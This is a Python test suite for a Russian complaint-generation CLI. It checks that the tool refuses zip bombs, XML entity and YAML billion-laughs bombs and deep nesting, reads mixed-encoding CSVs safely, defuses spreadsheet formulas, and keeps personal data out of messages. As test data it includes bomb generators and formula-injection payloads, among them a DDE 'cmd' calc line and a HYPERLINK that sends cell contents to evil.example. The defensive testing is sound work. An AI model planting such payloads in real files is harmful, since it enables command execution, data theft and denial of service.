"""Hostile and careless files: every row of a stale XLSX is read, bombs are refused fast with a Russian message
naming the file, a CSV of mixed encodings is never turned into mojibake, report cells cannot run as Excel formulas,
and messages never quote personal data (issue 15, items 5, 6, 9a, 9c, 9d, 12, 14)."""

from __future__ import annotations

import copy
import csv
import io
import re
import time
import zipfile
from pathlib import Path

import pytest
import yaml
from hypothesis import assume, given, settings
from hypothesis import strategies as st
from typer.testing import CliRunner

from complaint_cli import yamlio
from complaint_cli.batch import run_batch
from complaint_cli.cli import app
from complaint_cli.errors import CaseFileError
from complaint_cli.tabular import FORMULA_START, TableWriter, Unreadable, count_rows, read_rows
from complaint_cli.validation import validate_data
from tests.conftest import TODAY, load_example

runner = CliRunner()
FAST = 1.0  # seconds: «well under a second» for refusing a bomb, with room for a busy CI machine


def run(*args):
    return runner.invoke(app, [str(a) for a in args])


def billion_laughs() -> str:
    """The classic: 9 levels of 9 aliases, 342 bytes that expand to 10**9 strings."""
    text = 'a: &a ["lol", "lol", "lol", "lol", "lol", "lol", "lol", "lol", "lol"]\n'
    for prev, name in zip("abcdefgh", "bcdefghi"):
        text += f"{name}: &{name} [" + ", ".join([f"*{prev}"] * 9) + "]\n"
    return text


def read_report(path: Path) -> list[list[str]]:
    with open(path, encoding="utf-8-sig", newline="") as fh:
        return list(csv.reader(fh, delimiter=";"))


# --------------------------------------------------------------------------- 5. XLSX with a stale stored size


def xlsx(path: Path, header: list[str], rows: list[list[object]]) -> Path:
    from openpyxl import Workbook

    book = Workbook()
    book.active.append(header)
    for row in rows:
        book.active.append(row)
    book.save(path)
    return path


def rewrite_part(path: Path, part: str, change) -> Path:
    """Rewrite one part of a zip (``change(bytes) -> bytes``), as another program writing the file would."""
    with zipfile.ZipFile(path) as src:
        items = [(info, src.read(info.filename)) for info in src.infolist()]
    with zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED) as out:
        for info, data in items:
            out.writestr(info, change(data) if info.filename == part else data)
    return path


def test_an_xlsx_whose_stored_size_is_stale_gives_every_row(tmp_path):
    path = xlsx(tmp_path / "cases.xlsx", ["claimant.full_name", "order.number"],
                [[f"Иванов Иван {i}", f"R-{i}"] for i in range(1, 51)])
    rewrite_part(path, "xl/worksheets/sheet1.xml",
                 lambda xml: re.sub(rb'<dimension ref="[^"]*"', b'<dimension ref="A1:B2"', xml))
    rows = list(read_rows(path))
    assert [r.number for r in rows] == list(range(1, 51))
    assert rows[-1].data == {"claimant": {"full_name": "Иванов Иван 50"}, "order": {"number": "R-50"}}


# --------------------------------------------------------------------------- 9c. XLSX zip bombs


def xlsx_bomb(path: Path, padding_mb: int) -> Path:
    """A real workbook whose sheet carries ``padding_mb`` MB of blanks: a few hundred KB on disk."""
    xlsx(path, ["claimant.full_name"], [["Иванов Иван"]])
    with zipfile.ZipFile(path) as src:
        items = [(info, src.read(info.filename)) for info in src.infolist()]
    with zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED) as out:
        for info, data in items:
            if info.filename != "xl/worksheets/sheet1.xml":
                out.writestr(info, data)
                continue
            head, tail = data.split(b"<sheetData>")
            with out.open(info.filename, "w", force_zip64=True) as part:
                part.write(head + b"<sheetData>")
                blank = b" " * 2**20
                for _ in range(padding_mb):
                    part.write(blank)
                part.write(tail)
    return path


def test_an_xlsx_zip_bomb_is_refused_from_its_directory_before_anything_is_unpacked(tmp_path):
    path = xlsx_bomb(tmp_path / "бомба.xlsx", padding_mb=200)
    assert path.stat().st_size < 2**20  # 200 MB of XML in a file under 1 MB
    started = time.perf_counter()
    with pytest.raises(CaseFileError) as err:
        list(read_rows(path))
    assert time.perf_counter() - started < FAST
    assert str(path) in err.value.message and "zip-бомб" in err.value.message
    assert "xl/worksheets/sheet1.xml" in err.value.message
    with pytest.raises(CaseFileError, match="zip-бомб"):  # the progress bar counts rows first: it is guarded too
        count_rows(path)


def test_an_xlsx_unpacking_beyond_the_size_limit_is_refused(tmp_path, monkeypatch):
    from complaint_cli import tabular

    path = xlsx(tmp_path / "cases.xlsx", ["claimant.full_name"], [["Иванов Иван"]])
    monkeypatch.setattr(tabular, "XLSX_MAX_UNPACKED", 1000)
    with pytest.raises(CaseFileError, match=r"не больше 0 МБ"):
        list(read_rows(path))


def test_an_xml_entity_bomb_in_an_xlsx_sheet_is_a_clear_error(tmp_path):
    path = xlsx(tmp_path / "cases.xlsx", ["claimant.full_name"], [["Иванов"]])
    entities = "".join(f'<!ENTITY lol{i} "{f"&lol{i - 1};" * 10}">' for i in range(1, 10))
    rewrite_part(path, "xl/worksheets/sheet1.xml", lambda xml: (
        f'<!DOCTYPE worksheet [<!ENTITY lol0 "lol">{entities}]>'.encode() + xml.replace(b"<t>", b"<t>&lol9;", 2)))
    with pytest.raises(CaseFileError, match="лист таблицы не читается"):
        list(read_rows(path))


def test_an_xlsx_bomb_given_to_batch_fails_with_the_file_named_and_writes_nothing(tmp_path):
    path = xlsx_bomb(tmp_path / "дела.xlsx", padding_mb=120)
    result = run("batch", path, "--out", tmp_path / "out")
    assert result.exit_code == 1
    assert "zip-бомб" in result.stderr and "дела.xlsx" in result.stderr
    assert not (tmp_path / "out").exists()


# --------------------------------------------------------------------------- 9a. YAML aliases


@pytest.mark.parametrize("command", ["validate", "render", "new"])
def test_a_billion_laughs_case_file_is_refused_at_once_naming_the_file(tmp_path, command):
    path = tmp_path / "дело.yaml"
    path.write_text(billion_laughs(), encoding="utf-8")
    args = {"validate": ["validate", path], "render": ["render", path, "--out", tmp_path / "out"],
            "new": ["new", "--answers", path, "--no-input", "--out", tmp_path / "out"]}[command]
    started = time.perf_counter()
    result = run(*args)
    assert time.perf_counter() - started < FAST
    assert result.exit_code == 1
    assert f"Файл дела {path}" in result.stderr.replace("\n", "")
    assert "YAML-бомб" in result.stderr


def test_a_billion_laughs_in_a_batch_file_is_refused_before_any_row(tmp_path, late_case):
    path = tmp_path / "дела.yaml"
    path.write_text("- " + billion_laughs().replace("\n", "\n  "), encoding="utf-8")
    started = time.perf_counter()
    result = run("batch", path, "--out", tmp_path / "out")
    assert time.perf_counter() - started < FAST
    assert result.exit_code == 1 and "YAML-бомб" in result.stderr and "дела.yaml" in result.stderr
    assert not (tmp_path / "out").exists()


def test_an_alias_inside_itself_is_refused_not_walked_forever(tmp_path):
    path = tmp_path / "дело.yaml"
    path.write_text("claimant: &me\n  full_name: Иванов Иван\n  self: *me\n", encoding="utf-8")
    result = run("validate", path)
    assert result.exit_code == 1 and "сама стоит" in result.stderr


def test_honest_anchors_such_as_one_company_for_several_cases_are_read(tmp_path):
    path = tmp_path / "дела.yaml"
    path.write_text(
        "company: &kuper\n"
        "  name: ООО «Инстамарт Сервис»\n"
        "  address: 115035, г. Москва, ул. Садовническая, д. 9А\n"
        "cases:\n"
        + "".join(f"  - claimant: {{full_name: Иванов Иван {i}}}\n    company: *kuper\n" for i in range(100)),
        encoding="utf-8")
    rows = list(read_rows(path))
    assert len(rows) == 100
    assert all(r.data["company"]["name"] == "ООО «Инстамарт Сервис»" for r in rows)


@given(st.recursive(st.one_of(st.text(max_size=30), st.integers(), st.none()),
                    lambda inner: st.one_of(st.lists(inner, max_size=4), st.dictionaries(st.text(max_size=10), inner,
                                                                                         max_size=4)),
                    max_leaves=40))
def test_no_document_without_aliases_is_ever_refused(data):
    assume(depth(data) <= yamlio.MAX_DEPTH)
    text = yaml.safe_dump(data, allow_unicode=True)
    assert yamlio.load(text) == yaml.safe_load(text)  # the guard neither refuses nor changes it


def depth(data) -> int:
    children = list(data.values()) if isinstance(data, dict) else data if isinstance(data, list) else None
    return 0 if children is None else 1 + max(map(depth, children), default=0)


# --------------------------------------------------------------------------- 9d. deep nesting


@pytest.mark.parametrize(("name", "text"), [
    ("дела.json", "[" * 100_000 + "]" * 100_000),
    ("дела.yaml", "[" * 100_000 + "]" * 100_000),
    ("дела.yaml", "".join(" " * i + f"k{i}:\n" for i in range(40)) + " " * 40 + "k: 1\n"),
    ("дела.json", "[" * 500 + "]" * 500),
])
def test_deeply_nested_batch_data_is_a_clear_error_not_a_recursion_error(tmp_path, name, text):
    path = tmp_path / name
    path.write_text(text, encoding="utf-8")
    result = run("batch", path, "--out", tmp_path / "out")
    assert result.exit_code == 1
    assert "вложены глубже" in result.stderr and name in result.stderr
    assert "RecursionError" not in result.output


def test_a_deeply_nested_value_in_a_case_file_is_a_clear_error(tmp_path):
    path = tmp_path / "дело.yaml"
    path.write_text("claimant:\n  full_name: " + "[" * 900 + "]" * 900 + "\n", encoding="utf-8")
    result = run("validate", path)
    assert result.exit_code == 1 and "вложены глубже" in result.stderr and "дело.yaml" in result.stderr


# --------------------------------------------------------------------------- 12. mixed encodings


NAMES = ["Кузнецова Ольга Андреевна", "Ёлкин Пётр Семёнович", "Москвина Анна «Москва» Петровна"]


def mixed_csv(path: Path, encodings: list[str], *, header="claimant.full_name;order.number") -> Path:
    lines = [header.encode(encodings[0])] + [
        f"{name};R-{i}".encode(enc) for i, (name, enc) in enumerate(zip(NAMES, encodings[1:]), 1)]
    path.write_bytes(b"\r\n".join(lines) + b"\r\n")
    return path


def test_a_cp1251_row_in_a_utf8_csv_fails_by_number_and_the_other_rows_read_without_mojibake(tmp_path):
    path = mixed_csv(tmp_path / "cases.csv", ["utf-8", "utf-8", "cp1251", "utf-8"])
    rows = list(read_rows(path))
    assert [r.number for r in rows] == [1, 2, 3]
    assert rows[0].data["claimant"]["full_name"] == NAMES[0]
    assert rows[2].data["claimant"]["full_name"] == NAMES[2]
    assert isinstance(rows[1].data, Unreadable)
    assert "не в кодировке UTF-8" in rows[1].data.message


def test_a_utf8_row_in_a_cp1251_csv_fails_by_number_and_the_other_rows_read_without_mojibake(tmp_path):
    path = mixed_csv(tmp_path / "cases.csv", ["cp1251", "cp1251", "cp1251", "utf-8"],
                     header="ФИО заявителя;Номер заказа")
    rows = list(read_rows(path))
    assert [r.data["claimant"]["full_name"] for r in rows[:2]] == NAMES[:2]
    assert isinstance(rows[2].data, Unreadable) and "Windows-1251" in rows[2].data.message


def test_a_record_spanning_a_line_in_another_encoding_fails_as_a_whole_and_numbering_goes_on(tmp_path):
    path = tmp_path / "cases.csv"
    path.write_bytes("\ufeffproblem.description;order.number\r\n".encode("utf-8")
                     + '"Привезли в 22:40,\r\n'.encode("utf-8") + 'мороженое растаяло";R-1\r\n'.encode("cp1251")
                     + "Не привезли;R-2\r\n".encode("utf-8"))
    rows = list(read_rows(path))
    assert isinstance(rows[0].data, Unreadable)
    assert rows[1].number == 2
    assert rows[1].data == {"problem": {"description": "Не привезли"}, "order": {"number": "R-2"}}


def test_a_header_in_another_encoding_than_the_rows_is_a_file_error(tmp_path):
    path = mixed_csv(tmp_path / "cases.csv", ["cp1251", "utf-8", "utf-8"], header="ФИО заявителя;Номер заказа")
    with pytest.raises(CaseFileError, match="строка заголовков не в кодировке UTF-8"):
        list(read_rows(path))


def test_batch_reports_the_odd_row_by_number_and_renders_the_others(tmp_path):
    from tests.test_batch import case_row

    rows = [case_row(i) for i in (1, 2, 3)]
    lines = []
    for i, values in enumerate([list(rows[0])] + [list(r.values()) for r in rows]):
        text = io.StringIO()
        csv.writer(text, delimiter=";", lineterminator="\r\n").writerow(values)
        lines.append(text.getvalue().encode("cp1251" if i == 2 else "utf-8"))
    source = tmp_path / "cases.csv"
    source.write_bytes(b"".join(lines))
    result = run_batch(source, out_dir=tmp_path / "out", on=TODAY, jobs=1)
    assert [(e.row, e.field) for e in result.failed] == [(2, "(кодировка)")]
    assert [d.row for d in result.documents] == [1, 3]
    assert all("Р" not in d.path.parent.name for d in result.documents)  # no «РљСѓР·РЅ…» folder


# --------------------------------------------------------------------------- 6. formulas in the report


cells = st.one_of(st.text(st.characters(exclude_categories=("Cs",)), max_size=20),
                  st.sampled_from(["=1+1", "+7 916", "-2+3+cmd|' /C calc'!A0", "@SUM(A1)", "\t=1", "\r=1", "'=1"]))


@settings(max_examples=300, deadline=None)
@given(row=st.lists(cells, min_size=1, max_size=6))
def test_no_report_cell_starts_like_a_formula_and_the_text_is_kept(tmp_path_factory, row):
    path = tmp_path_factory.mktemp("report") / "отчёт.csv"
    writer = TableWriter(path, ["a"])
    writer.row(row)
    writer.commit()
    got = read_report(path)[1]
    for original, cell in zip(row, got, strict=True):
        assert not cell.startswith(FORMULA_START)
        assert cell == ("'" + original if original.startswith(FORMULA_START) else original)


def test_numbers_the_tool_writes_stay_numbers():
    from complaint_cli.tabular import defuse_cell

    assert [defuse_cell(v) for v in (-5, 12, 0.5)] == [-5, 12, 0.5]


def test_batch_report_defuses_names_order_numbers_and_unknown_keys_but_json_keeps_them(tmp_path, late_case):
    evil_name = '=HYPERLINK("http://evil.example/?"&A1;"Иванов")'
    good = copy.deepcopy(late_case)
    good["claimant"]["full_name"] = evil_name
    bad = copy.deepcopy(late_case)
    bad["@SUM(1+1)"] = "x"
    bad["order"]["number"] = "-2+3+cmd|' /C calc'!A0"
    bad["claimant"]["email"] = "нет"
    source = tmp_path / "дела.yaml"
    source.write_text(yaml.safe_dump([good, bad], allow_unicode=True), encoding="utf-8")
    result = run_batch(source, out_dir=tmp_path / "out", on=TODAY, jobs=1)
    report = read_report(result.report_path)
    assert all(not cell.startswith(FORMULA_START) for line in report for cell in line)
    assert ["2", "ошибка", "'@SUM(1+1)"] in [line[:3] for line in report]
    assert "@SUM(1+1)" in {e["field"] for e in result.as_dict()["failed"]}  # JSON is for programs: unchanged


# --------------------------------------------------------------------------- 14. no personal data in messages


MARKED = st.text(st.characters(exclude_categories=("Cs", "Cc")), max_size=15).map(lambda t: "ПДн" + t)


@settings(max_examples=200, deadline=None)
@given(value=MARKED, field=st.sampled_from(["claimant.email", "claimant.phone", "claimant.birth_date",
                                            "claimant.gender", "claimant.region", "company.email", "company.phone"]))
def test_an_invalid_personal_value_is_never_quoted_only_its_field_named(value, field):
    data = load_example("kuper_not_delivered.yaml")
    section, key = field.split(".")
    data[section][key] = value
    report = validate_data(data, today=TODAY)
    problems = [p for p in report.errors if p.field == field]
    assert problems, report.errors
    for p in report.errors:
        assert "ПДн" not in p.message
    assert all("ПДн" not in w for w in report.warnings)


@pytest.mark.parametrize(("field", "value"), [("seller.inn", "500100732258"), ("seller.ogrn", "304500116000158")])
def test_a_persons_inn_or_ogrnip_is_not_quoted(field, value):
    data = load_example("kuper_not_delivered.yaml")
    data["seller"] = {"name": "ИП Иванов Иван Иванович", "address": "г. Москва", field.split(".")[1]: value}
    errors = {p.field: p.message for p in validate_data(data, today=TODAY).errors}
    assert field in errors and value not in errors[field]


def test_validate_and_the_batch_report_name_the_field_without_the_value(tmp_path, late_case):
    late_case["claimant"]["email"] = "olga.kuznetsova@mail"
    late_case["claimant"]["phone"] = "8 916 12"
    path = tmp_path / "дело.yaml"
    path.write_text(yaml.safe_dump(late_case, allow_unicode=True), encoding="utf-8")
    result = run("validate", path)
    assert result.exit_code == 1
    assert "claimant.email: неверный адрес электронной почты" in result.stdout
    assert "olga.kuznetsova" not in result.output and "8 916 12" not in result.output
    batch = run_batch(path, out_dir=tmp_path / "out", on=TODAY, jobs=1)
    text = batch.report_path.read_text(encoding="utf-8-sig")
    assert "claimant.phone" in text and "olga.kuznetsova" not in text and "8 916 12" not in text
